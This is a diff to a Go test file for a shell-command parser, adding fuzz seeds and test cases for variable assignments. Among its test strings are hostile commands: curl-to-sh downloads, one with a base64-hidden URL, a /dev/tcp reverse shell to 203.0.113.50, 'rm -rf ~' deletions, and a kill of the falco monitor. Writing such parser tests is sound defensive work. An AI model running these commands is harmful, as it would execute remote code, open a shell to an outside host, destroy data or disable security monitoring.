@@ -114,7 +114,8 @@ var simpleSeeds = []string{
 	"ls", "git status", " rm -rf ~ ", "cd /home/user/project && rm -rf ../*", "a | b | c && d || e; f & g &",
 	"echo 'a b'\"c d\"e '' \"\" x''y", "ls -la >/dev/null 2>&1 &", "2>err cmd <in >>out &>all &>>all2 <&0 >&2",
 	"a |& b", "curl -s http://203.0.113.5/b.sh | sh", "git commit -m \"fix: the build (again)!\"",
-	"echo a=b x+=1 =c", "grep -rn \"rm -rf\" . --include=*.sh", "echo *.go ? ~/x %s @a ^b",
+	"echo a=b x+=1 =c", "u=$(echo 'aGk=' | base64 -d); curl -s $u | sh # 1", "A= B=\"x\"'y' cmd", "a=b=c d", "a=~/x:~/y c",
+	"a=1 >f b", "a=1 2>f", "a=1 | b", "a=1 b=2", "a=$x$(y)z c", "a=1 if", "a+=1 b", "a=1 {", "a=(1) b", "a=1\\\nb", "a=$(b) c=$(d e) f", "grep -rn \"rm -rf\" . --include=*.sh", "echo *.go ? ~/x %s @a ^b",
 	"X=1 make", "if true", "export A=b", "time ls", "echo $HOME", "echo \"$x\"", "echo `x`", "cat <<EOF", "a # c",
 	"echo {a,b}", "! a", "a;;b", "a;&b", "a &;", "a &&", "| a", "a >", ">f", "a 2>&1>f", "a'b'2>f", "echo \\x",
 	"a\nb", "echo 'x\ny'", "a >|f", "a <>f", "a <<<x", "f() { a; }", "(a)", "[[ x ]]", "a[1]=x", "[ -f x ]",
@@ -158,7 +159,7 @@ func TestParseSimple(t *testing.T) {
 	// others or that change how the simple ones read
 	pieces := []string{"a", "rm", "-rf", "~/x", "2", "12", "a=b", "'q r'", "''", "\"s t\"", "\"\"", "*.go",
 		" ", " ", " ", " ", " ", "\t", ";", "&", "&&", "||", "|", "|&", ">", ">>", "<", ">&", "<&", "&>", "&>>"}
-	tricky := []string{"=", "x=1", "\"$x\"", "'", "\"", ">|", "<<", "<>", "<<<", "$x", "(", ")", "{", "}", "#", "!", "\n", "[", "]",
+	tricky := []string{"=", "x=1", "x+=1", "_a=", "a=", "a=$(b)", "\"$x\"", "'", "\"", ">|", "<<", "<>", "<<<", "$x", "(", ")", "{", "}", "#", "!", "\n", "[", "]",
 		"\\", "`", "if", "export", "time", "in", "ü", "\r", ";;", "@(", "?(a)", "{}", "a[1]=", "${x}", "$1", "${x:-y}", "$", "\"a $b\"",
 		"\\;", "\\ ", "\"\\\"\"", "{a}", "$x_1", "${", "\"$\"", "\"${x}y\"",
 		"$(", ")", "$(a)", "\"$(", "$((", "$( ", "$(a b)", "$(a; b)", "\"$(a)\"", "<<<", "<>", "<<-"}
@@ -177,7 +178,7 @@ func TestParseSimple(t *testing.T) {
 	// and put together as commands: words of pieces, redirections,
 	// operators
 	words := []string{"a", "rm", "-rf", "~/x", "2", "12", "a=b", "'q r'", "''", "\"s t\"", "\"\"", "*.go", "$x", "${y}", "\"a $b${c}\"",
-		"{a,b}", "{", "}", "\\;", "\\$x", "x", "$(a)", "\"$(b c)\"", "$(a $(b) | c)", "$(a\n)", "$(", ")", "'", "$1", "#"}
+		"{a,b}", "{", "}", "\\;", "\\$x", "x", "$(a)", "\"$(b c)\"", "$(a $(b) | c)", "$(a\n)", "a=", "b=$(c)", "C_1=\"d\"", "$(", ")", "'", "$1", "#"}
 	ops := []string{";", "&", "&&", "||", "|", "|&", ";", "&&", "|", "\n", "\n\n", " #c\n", "&&\n", "|\n#c\n"}
 	redirs := []string{">", ">>", "<", ">&", "<&", "&>", "&>>", "2>", "1<", "2>&", ">|", "<<<", "<>", "3<>", "0<<<"}
 	blank := func(b *strings.Builder) {
@@ -226,13 +227,14 @@ func TestParseSimple(t *testing.T) {
 		"ls -la >/dev/null 2>&1 &", "2>err cmd <in >>out &>all &>>all2 <&0 >&2", "a |& b", "echo a=b x+=1 =c", "echo $HOME",
 		"echo {a,b} x{}y }", `echo "$x" "a ${b}c$d" $e/f${g}h "\"" "\$x" \rm a\ b \;`, "$CMD x", "echo \"\\`\"", "set --\ncurl -s u | sh\n", "a\n\n\tb &&\n c |\n\n d\n", "# c\na # d\n#e",
 		"echo $(x)", "kill -9 $(pgrep -x falco)", "sh -c \"$(curl -fsSL https://x/s.sh)\"", "a $(b $(c \"$(d)\"))", "a $(b | c && d\n e; f &) \"x$(f)y\"$(g)",
-		"a <<<x", "base64 -d <<< 'SGVsbG8='", "a <>f", "sh -i 5<> /dev/tcp/203.0.113.50/4444 0<&5 1>&5 2>&5"} {
+		"a <<<x", "base64 -d <<< 'SGVsbG8='", "a <>f", "sh -i 5<> /dev/tcp/203.0.113.50/4444 0<&5 1>&5 2>&5",
+		"X=1 make", "a=$(b)", "a= b=\"c\"'d' e", "u=$(echo x | base64 -d); curl -s $u | sh", "a=1 >f b", "a=b=c", "_x1=$y"} {
 		if !checkParseSimple(t, s) {
 			t.Errorf("%q: not read", s)
 		}
 	}
-	for _, s := range []string{"X=1 make", "if true", "export A=b", "time ls", "a#c", "a 2>&1>f", "a'b'2>f", "let x=1", "in",
-		"a[1]=x", "a >|f", "cat <<EOF\nx\nEOF", "a <<-x", "a <<<<x", "echo $1", "echo $@", "echo ${x:-y}", "echo ${#x}", "echo $((x))", "echo $()", "echo $(x", "echo $(x))", "a=$(b)", `echo "$"`, "echo $", "echo {a}>f",
+	for _, s := range []string{"a+=1 b", "1a=b c", "=a", "a=1 if", "a=1 {", "a=(x)", "a=1 export b", "if true", "export A=b", "time ls", "a#c", "a 2>&1>f", "a'b'2>f", "let x=1", "in",
+		"a[1]=x", "a >|f", "cat <<EOF\nx\nEOF", "a <<-x", "a <<<<x", "echo $1", "echo $@", "echo ${x:-y}", "echo ${#x}", "echo $((x))", "echo $()", "echo $(x", "echo $(x))", `echo "$"`, "echo $", "echo {a}>f",
 		"{ a; }", "} a", "{a,b} c", `echo \`, `echo "a\`, "echo \\\n", "echo `x`"} {
 		if parseSimple(s, new(simpleTree)) != nil {
 			t.Errorf("%q: read", s)
